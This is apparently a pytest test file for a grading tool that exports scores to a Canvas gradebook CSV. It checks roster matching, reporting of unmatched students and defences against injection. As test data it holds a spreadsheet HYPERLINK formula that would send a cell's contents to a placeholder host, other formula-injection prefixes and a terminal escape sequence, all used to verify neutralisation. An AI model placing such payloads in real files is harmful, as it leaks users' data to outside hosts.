"""Grades for the LMS: Canvas's gradebook-import CSV, the roster matching rule, nothing dropped silently,
and no formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json

import pytest

from grader import untrusted
from grader.lms import export
from grader.term import identity
from grader.__main__ import main
from handmade_class import class_documents, document, write_out

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'

# Canvas's own export: a byte-order mark, a "Points Possible" row, other assignments' columns.
ROSTER = (
    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (111)\r\n"
    "    Points Possible,,,,,10\r\n"
    '"Doe, Jane",1001,U1,s1,Section A,9\r\n'  # s1 by SIS Login ID
    f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",1002,s2,login2,Section A,\r\n'  # s2 by SIS User ID
    "Carol Three,s3,U3,login3,Section B,7\r\n"  # s3 by ID
    "Nobody Handed-In,1004,U4,login4,Section B,\r\n"  # no submission
)


@pytest.fixture
def out(tmp_path):
    documents = class_documents()
    documents["stranger"] = document("stranger", 2, True)  # not on the roster
    return write_out(tmp_path / "out", documents)


@pytest.fixture
def roster_file(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_bytes(ROSTER.encode("utf-8"))
    return path


def export_csv(out, roster_file, tmp_path, *options: str) -> str:
    target = tmp_path / "grades.csv"
    status = main(["export", str(out), "--roster", str(roster_file), "--assignment", "Attention (12345)", "--out", str(target), *options])
    assert status == 0
    return target.read_bytes().decode("utf-8")  # as written: the CSV's line ends are \r\n


def test_the_canvas_file_is_exactly_the_import_format(out, roster_file, tmp_path):
    text = export_csv(out, roster_file, tmp_path, "--points", "10")
    assert text.split("\r\n") == [
        "Student,ID,SIS User ID,SIS Login ID,Section,Attention (12345)",
        "    Points Possible,,,,,10",
        '"Doe, Jane",1001,U1,s1,Section A,8',  # 4/5 of 10
        '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Click"")",1002,s2,login2,Section A,6',
        "Carol Three,s3,U3,login3,Section B,4",
        "Nobody Handed-In,1004,U4,login4,Section B,",  # no submission: empty, not 0
        "",
    ]


def test_scores_are_scaled_to_100_by_default(out, roster_file, tmp_path):
    rows = list(csv.reader(io.StringIO(export_csv(out, roster_file, tmp_path))))
    assert rows[1] == ["    Points Possible", "", "", "", "", "100"]
    assert [row[-1] for row in rows[2:]] == ["80", "60", "40", ""]


def test_unmatched_students_are_listed_on_the_terminal_in_export_json_and_in_the_report(out, roster_file, tmp_path, capsys):
    export_csv(out, roster_file, tmp_path)
    printed = capsys.readouterr().out
    assert "3 of 4 roster students have a submission" in printed
    assert "Nobody Handed-In (SIS Login ID login4, SIS User ID U4, ID 1004)" in printed
    assert "2 submissions not on the roster" in printed and "  s4: " in printed and "  stranger: " in printed
    record = json.loads((out / "export.json").read_text(encoding="utf-8"))
    assert record["matched_by"] == {"s1": "SIS Login ID", "s2": "SIS User ID", "s3": "ID"}
    assert [entry["submission"] for entry in record["submissions_not_on_roster"]] == ["s4", "stranger"]
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "Nobody Handed-In" in page and '<a href="feedback/stranger.html">stranger</a>' in page


def test_the_plain_format_has_the_roster_columns_the_score_and_the_points_per_group(out, roster_file, tmp_path):
    rows = list(csv.reader(io.StringIO(export_csv(out, roster_file, tmp_path, "--format", "plain"))))
    assert rows[0] == [
        "Student", "ID", "SIS User ID", "SIS Login ID", "Section", "submission", "score (of 100)",
        "raw score (of 100)", "late penalty", "override", "override reason", "comment",
        "1. shapes (of 2)", "2. probabilities (of 2)", "6. configuration (of 1)",
    ]
    assert rows[1] == ["Doe, Jane", "1001", "U1", "s1", "Section A", "s1", "80", "80", "", "", "", "", "2", "2", "0"]
    assert rows[4] == ["Nobody Handed-In", "1004", "U4", "login4", "Section B", "", "", "", "", "", "", "", "", "", ""]


def test_an_id_that_is_one_students_login_and_anothers_canvas_id_is_exported_for_neither_and_said():
    rows = [
        {"Student": "By ID", "ID": "x", "SIS User ID": "", "SIS Login ID": ""},
        {"Student": "By user id", "ID": "2", "SIS User ID": "X", "SIS Login ID": ""},
        {"Student": "By login", "ID": "3", "SIS User ID": "", "SIS Login ID": "x"},
    ]
    found = identity.match(["x"], rows)
    assert found.submission_of_row == {} and "it matches 3 roster students" in found.not_on_roster["x"]
    found = identity.match(["x"], rows[2:])
    assert found.submission_of_row == {0: "x"} and found.matched_by == {"x": "SIS Login ID"}


def test_one_student_matched_by_two_of_their_own_columns_is_one_student():
    rows = [{"Student": "Jane", "ID": "4242", "SIS User ID": "jdoe", "SIS Login ID": "jdoe"}]
    found = identity.match(["JDoe "], rows)
    assert found.submission_of_row == {0: "JDoe "} and found.matched_by == {"JDoe ": "SIS Login ID, SIS User ID"}


def test_a_submission_named_as_canvas_writes_the_students_name_is_theirs():
    rows = [{"Student": "O'Neil_12_, Sam", "ID": "9", "SIS User ID": "", "SIS Login ID": ""}]
    found = identity.match(["oneil12sam"], rows)  # lib/content_zipper.rb: _12_ -> 12, lower case, [[:word:]] only
    assert found.submission_of_row == {0: "oneil12sam"} and found.matched_by == {"oneil12sam": "name in Canvas's file names"}


def test_matching_ignores_case_and_reads_canvas_download_names():
    # "Kim Lee" is the row's name, written "kimlee" in Canvas's file names: name and user id agree.
    rows = [{"Student": "Jane", "ID": "4242", "SIS User ID": "", "SIS Login ID": "JDoe"}, {"Student": "Kim Lee", "ID": "77", "SIS User ID": "", "SIS Login ID": ""}]
    found = identity.match(["jdoe", "kimlee_late_77_31415_multi_head_attention"], rows)
    assert found.submission_of_row == {0: "jdoe", 1: "kimlee_late_77_31415_multi_head_attention"}


def test_a_canvas_name_holding_an_underscore_is_matched_by_its_user_id():
    # Canvas keeps "_" in the sortable name it writes (lib/content_zipper.rb keeps [[:word:]]).
    rows = [{"Student": "O_Neil, Sam", "ID": "12", "SIS User ID": "", "SIS Login ID": ""}]
    found = identity.match(["o_neilsam_LATE_12_34_attention"], rows)
    assert found.submission_of_row == {0: "o_neilsam_LATE_12_34_attention"}


def test_a_second_submission_for_the_same_student_is_reported_not_dropped():
    rows = [{"Student": "Jane", "ID": "4242", "SIS User ID": "u1", "SIS Login ID": "jdoe"}]
    found = identity.match(["jdoe", "u1"], rows)
    assert found.submission_of_row == {0: "jdoe"}
    assert "already matched by jdoe" in found.not_on_roster["u1"]


def test_a_file_without_the_id_columns_is_refused_with_a_reason(out, tmp_path, capsys):
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("name,grade\nJane,9\n", encoding="utf-8")
    status = main(["export", str(out), "--roster", str(wrong), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv")])
    assert status == 2 and "none of the columns SIS Login ID, SIS User ID, ID" in capsys.readouterr().err
    assert not (tmp_path / "g.csv").exists()


@pytest.mark.parametrize("cell", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK, "＝1+2"])
def test_a_cell_that_would_start_a_formula_is_neutralised(cell):
    # a leading quote; a tab or a carriage return is then escaped, as in every CSV cell
    assert export.neutralise(cell) == "'" + cell.replace("\t", "\\x09").replace("\r", "\\x0d")


@pytest.mark.parametrize("cell", ["Jane Doe", "-3", "+4", "12.5", "", "a=b", "O'Brien"])
def test_text_and_plain_numbers_are_left_as_they_are(cell):
    assert export.neutralise(cell) == cell


def test_a_submission_named_as_a_formula_is_neutralised_in_the_plain_file(tmp_path):
    documents = {"@SUM(1)": document("@SUM(1)", 2, True)}
    out = write_out(tmp_path / "out", documents)
    roster_file = tmp_path / "roster.csv"
    roster_file.write_text("Student,ID,SIS User ID,SIS Login ID,Section\nJ,1,,@sum(1),A\n", encoding="utf-8")
    rows = list(csv.reader(io.StringIO(export_csv(out, roster_file, tmp_path, "--format", "plain"))))
    assert rows[1][:7] == ["J", "1", "", "'@sum(1)", "A", "'@SUM(1)", "80"]


def test_the_terminal_shows_control_characters_as_escapes():
    assert untrusted.printable("eve\x1b]0;owned\x07\nx") == "eve\\x1b]0;owned\\x07\\x0ax"


# --- careless inputs: one message naming what is wrong, nothing written ---------------------------


def refused(out, roster_file, tmp_path, capsys, *options: str, assignment: str = "Attention (12345)") -> str:
    target = tmp_path / "grades.csv"
    with pytest.raises(SystemExit) as exited:
        main(["export", str(out), "--roster", str(roster_file), "--assignment", assignment, "--out", str(target), *options])
    assert exited.value.code == 2 and not target.exists()
    return capsys.readouterr().err


@pytest.mark.parametrize("points", ["nan", "inf", "-10", "0", "ten"])
def test_points_that_are_not_a_positive_number_are_refused_naming_the_option(out, roster_file, tmp_path, capsys, points):
    said = refused(out, roster_file, tmp_path, capsys, f"--points={points}")
    assert f"argument --points: '{points}' is not a number of points" in said and "Traceback" not in said


@pytest.mark.parametrize("title", ["=HYPERLINK(1)", "+1 (2)", "@SUM(A1)", " Attention (12345)"])
def test_an_assignment_title_a_spreadsheet_would_read_as_a_formula_is_refused(out, roster_file, tmp_path, capsys, title):
    said = refused(out, roster_file, tmp_path, capsys, assignment=title)
    assert "argument --assignment:" in said and "formula" in said


def test_a_roster_with_a_cell_over_the_csv_limit_is_refused_naming_its_line(out, tmp_path, capsys):
    long_cell = tmp_path / "long.csv"
    long_cell.write_text(ROSTER + f'"{"x" * 200_000}",1099,U99,s99,Section A\n', encoding="utf-8")
    status = main(["export", str(out), "--roster", str(long_cell), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv")])
    said = capsys.readouterr().err
    assert status == 2 and "long.csv could not be read as CSV at line" in said and "Traceback" not in said
    assert not (tmp_path / "g.csv").exists()


def test_a_roster_with_two_id_columns_is_refused_not_read_by_its_second(out, tmp_path, capsys):
    twice = tmp_path / "twice.csv"
    header, *rows = ROSTER.splitlines()
    twice.write_text("\n".join([header + ",ID", *(row + ",999" for row in rows)]) + "\n", encoding="utf-8")
    status = main(["export", str(out), "--roster", str(twice), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv")])
    assert status == 2 and "twice.csv has more than one column named ID" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("row", "said"),
    [
        ('"Evans, Mark",1001,U5,login5,Section B,\r\n', "merged.csv:7: ID '1001' is also on line 3"),
        ('"Evans, Mark",1005,U1,login5,Section B,\r\n', "merged.csv:7: SIS User ID 'U1' is also on line 3"),
        ('"Evans, Mark",1005,U5,S1,Section B,\r\n', "merged.csv:7: SIS Login ID 'S1' is also on line 3"),
    ],
)
def test_a_roster_that_gives_one_id_to_two_rows_is_refused_naming_both_lines(out, tmp_path, capsys, row, said):
    """Canvas gives each student one row and each id to one user: two rows with one id are a
    merged or hand-edited file. Once the batch graded on, counting the extension, the
    submission time and the override of both students as "has no submission"."""
    merged = tmp_path / "merged.csv"
    merged.write_text(ROSTER + row, encoding="utf-8")
    status = main(["export", str(out), "--roster", str(merged), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv")])
    err = capsys.readouterr().err
    assert status == 2 and said in err and "one row per student" in err and "Traceback" not in err
    assert not (tmp_path / "g.csv").exists()


def test_a_student_whose_grading_failed_is_said_so_not_called_without_a_submission(tmp_path, roster_file, capsys):
    documents = class_documents()
    del documents["s3"]  # Carol Three handed in, but her grading shard failed: no result
    out = write_out(tmp_path / "out", documents, not_graded={"s3": "the shard ended with status 3"})
    text = export_csv(out, roster_file, tmp_path)
    said = capsys.readouterr().out
    assert "Carol Three,s3,U3,login3,Section B,\r\n" in text  # empty, not 0
    assert "1 on the roster whose submission could not be graded" in said and "  Carol Three\n" in said
    assert "without a submission (left empty):\n  Nobody Handed-In" in said and "Carol" not in said.split("without a submission")[1]
    record = json.loads((out / export.MATCH_FILE).read_text())
    assert not [row for row in record["roster_without_submission"] if "Carol" in row]


def test_a_student_with_two_entries_is_never_exported_at_the_lower_grade_unsaid(tmp_path, roster_file, capsys):
    """Canvas's "Download Submissions" names one entry per uploaded file: a finished .py and an
    untouched notebook become two submissions of one student, matched to one roster row."""
    documents = class_documents()
    documents["s1"] = document("s1", 0, False)  # Jane Doe's untouched notebook: 0
    documents["u1"] = document("u1", 2, True)  # Jane Doe again (SIS User ID U1): her work, 4 of 5
    out = write_out(tmp_path / "out", documents)
    text = export_csv(out, roster_file, tmp_path)
    assert '"Doe, Jane",1001,U1,s1,Section A,0\r\n' in text  # s1 matched first
    said = capsys.readouterr().err
    assert "WARNING: " in said and "exported s1 (0%), but u1 scored 80%; the higher grade was NOT sent" in said
    assert json.loads((out / export.MATCH_FILE).read_text())["higher_grades_not_sent"]


def test_an_export_whose_roster_matches_nobody_writes_nothing_and_fails_saying_why(out, tmp_path, capsys):
    other = tmp_path / "other-course.csv"
    other.write_text("Student,ID,SIS User ID,SIS Login ID,Section\nZed Zulu,9999,Z9,zz,Section Z\n", encoding="utf-8")
    status = main(["export", str(out), "--roster", str(other), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv")])
    err = capsys.readouterr().err
    assert status == 2 and "matches a student of" in err and "every grade would be empty" in err
    assert not (tmp_path / "g.csv").exists()


def test_a_canvas_feedback_zip_for_no_one_is_not_written_and_the_export_fails_saying_why(out, roster_file, tmp_path, capsys):
    target = tmp_path / "feedback.zip"  # the hand-made class's files are not named as Canvas's download names them
    status = main(["export", str(out), "--roster", str(roster_file), "--assignment", "A (1)", "--out", str(tmp_path / "g.csv"),
                   "--feedback-zip", str(target), "--submissions", str(tmp_path)])
    err = capsys.readouterr().err
    assert status == 2 and "no student's feedback could go into" in err and "not named as Canvas's Download Submissions" in err
    assert not target.exists()
